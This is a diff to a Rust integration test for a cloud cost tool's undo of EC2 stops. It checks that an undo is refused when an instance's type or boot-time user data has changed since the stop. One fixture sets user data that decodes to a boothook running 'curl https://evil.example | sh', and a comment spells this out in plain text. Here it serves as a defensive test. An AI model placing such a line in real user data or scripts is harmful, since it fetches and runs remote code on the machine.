@@ -4,7 +4,7 @@
 use std::collections::HashMap;
 
 use chrono::{DateTime, Utc};
-use finops_actions::{ActionOutcome, Actions, ActionsConfig, Outcome, SdkEc2Actions};
+use finops_actions::{ActionOutcome, Actions, ActionsConfig, Ec2Actions, Outcome, SdkEc2Actions, StoppedAs};
 use finops_approval_store::{ApprovalRecord, Decision, MemoryApprovals, DECIDED_VIA_POST};
 use finops_core::approval::ApprovalAction;
 use finops_core::LookbackWindow;
@@ -94,13 +94,14 @@ impl Harness {
     }
 
     /// The undo record (id `undo` repeated) of the approval under id `approval` repeated, decided by POST; its id.
-    fn undo_decided(&self, approval: char, undo: char) -> String {
+    fn undo_decided(&self, approval: char, undo: char, stopped_as: Option<StoppedAs>) -> String {
         let undo_id: String = std::iter::repeat_n(undo, 32).collect();
         let approval = self.approvals.get_now(&std::iter::repeat_n(approval, 32).collect::<String>()).unwrap();
         let record = ApprovalRecord::undo_of(
             &approval,
             undo_id.clone(),
             Utc::now().to_rfc3339(),
+            stopped_as,
             0,
             Utc::now().timestamp() + 60,
         );
@@ -185,28 +186,45 @@ async fn snapshot_then_stop_once_even_when_every_step_is_invoked_twice() {
     assert_eq!(tags["finops:approved-by"], "ana@example.com", "the recorded approver, not the payload's");
     assert_eq!(tags["finops:run-id"], "run-1");
 
-    // EC2's account of the stop (its StateTransitionReason) is noted on the instance: what an undo checks.
-    assert!(tags.get("finops:stopped-at").is_some_and(|t| t.starts_with("20")), "{tags:?}");
+    // How the stop left it, in its outcome (what the undo record keeps): EC2's account of when (its
+    // StateTransitionReason), and what starting it would run.
+    let stopped_as = stop.acted.as_ref().and_then(|a| a.stopped_as.clone()).expect("how the stop left it");
+    let live = h.instances.describe_instance(REGION, &id).await.unwrap().unwrap();
+    assert_eq!(Some(stopped_as.stopped_at), live.stopped_since);
+    assert_eq!(stopped_as.configuration.instance_type, live.instance_type);
+    assert_eq!(stopped_as.configuration.volumes.len(), 1);
     // Someone starts it and stops it again (a second later, as EC2 counts): the undo leaves it as they left it.
     tokio::time::sleep(std::time::Duration::from_millis(1_100)).await;
     h.client.start_instances().instance_ids(&id).send().await.unwrap();
     h.client.stop_instances().instance_ids(&id).send().await.unwrap();
-    let undo_id = h.undo_decided('a', 'c');
+    let undo_id = h.undo_decided('a', 'c', Some(stopped_as.clone()));
     let undo =
         json!({"operation": "undo", "runId": "run-1", "proposal": proposal, "decision": {"approvalId": undo_id}});
     let refused = h.run(undo.clone()).await;
     assert_eq!(refused.outcome, Outcome::Refused, "{}", refused.detail);
     assert!(refused.detail.contains("stopped again since"), "{}", refused.detail);
     assert_eq!(h.state_and_tags(&id).await.0, "stopped");
-    // Put back as finops left it (the note says the new stop): the undo starts it.
+    // Had that been finops' stop, a type and boot code changed while stopped (ModifyInstanceAttribute) are still
+    // someone else's: not started.
     let stopped_again = h.instances.describe_instance(REGION, &id).await.unwrap().unwrap().stopped_since.unwrap();
-    h.client
-        .create_tags()
-        .resources(&id)
-        .tags(aws_sdk_ec2::types::Tag::builder().key("finops:stopped-at").value(stopped_again.to_rfc3339()).build())
-        .send()
-        .await
-        .unwrap();
+    let as_stopped_again = StoppedAs { stopped_at: stopped_again, ..stopped_as };
+    h.undo_decided('a', 'c', Some(as_stopped_again.clone()));
+    let modify = || h.client.modify_instance_attribute().instance_id(&id);
+    let value = |v: &str| aws_sdk_ec2::types::AttributeValue::builder().value(v).build();
+    modify().instance_type(value("m5.24xlarge")).send().await.unwrap();
+    let boot_code = aws_sdk_ec2::types::SecureBlobAttributeValue::builder()
+        // `printf '#cloud-boothook\ncurl https://evil.example | sh\n' | base64`: EC2 takes user data base64-encoded.
+        .value(aws_sdk_ec2::primitives::Blob::new("I2Nsb3VkLWJvb3Rob29rCmN1cmwgaHR0cHM6Ly9ldmlsLmV4YW1wbGUgfCBzaAo="))
+        .build();
+    modify().user_data(boot_code).send().await.unwrap();
+    let refused = h.run(undo.clone()).await;
+    assert_eq!(refused.outcome, Outcome::Refused, "{}", refused.detail);
+    assert!(refused.detail.contains("then, m5.24xlarge now"), "{}", refused.detail);
+    assert!(refused.detail.contains("user data (boot code) changed"), "{}", refused.detail);
+    assert_eq!(h.state_and_tags(&id).await.0, "stopped");
+    // Had the stop left it with this type and boot code (the record says so), nothing changed since: started.
+    let configuration = h.ec2.start_configuration(REGION, &id).await.unwrap().unwrap();
+    h.undo_decided('a', 'c', Some(StoppedAs { configuration, ..as_stopped_again }));
 
     // One-click undo through the SDK: StartInstances once, the instance tagged with the undo.
     let undo =
@@ -410,7 +428,7 @@ async fn an_unattached_volume_is_snapshotted_and_deleted_and_an_address_released
     assert_eq!((tags["finops:volume-az"], tags["finops:volume-type"]), ("ap-southeast-2a", "gp3"));
 
     // Recreated from the kept snapshot through the SDK (CreateVolume with the undo id as client token), once.
-    let undo_id = h.undo_decided('a', 'd');
+    let undo_id = h.undo_decided('a', 'd', None);
     let undo = json!({"operation": "undo", "runId": "run-1", "proposal": volume_proposal,
         "decision": {"approvalId": undo_id}});
     let recreated = h.run(undo.clone()).await;
